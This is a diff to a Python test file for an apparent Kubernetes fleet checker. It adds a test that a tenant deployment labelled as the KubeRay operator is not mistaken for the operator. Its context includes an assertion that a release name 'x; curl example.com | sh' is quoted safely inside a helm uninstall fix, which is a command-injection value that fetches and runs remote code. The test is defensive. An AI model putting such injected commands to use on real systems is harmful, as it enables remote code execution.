@@ -118,6 +118,15 @@ def test_annotation_of_a_tenant_cannot_end_the_command_of_a_fix() -> None:
     assert finding.fix.startswith("helm uninstall 'x; curl example.com | sh' -n lab")
 
 
+def test_deployment_of_a_tenant_is_not_taken_for_the_operator() -> None:
+    """It would be reported as an operator that does not run, or hide that none runs."""
+    world = World(fleet())
+    odd = deployment()
+    odd["metadata"]["labels"] = {"app.kubernetes.io/name": "kuberay-operator"}
+    world.create(odd)
+    assert world.examine("kuberay-operator", "operator-access").findings == ()
+
+
 def test_measurements_of_a_tenant_are_not_compared_with_the_plan() -> None:
     world = World(fleet())
     (fault,) = load_checks()["measured-plan"].plants
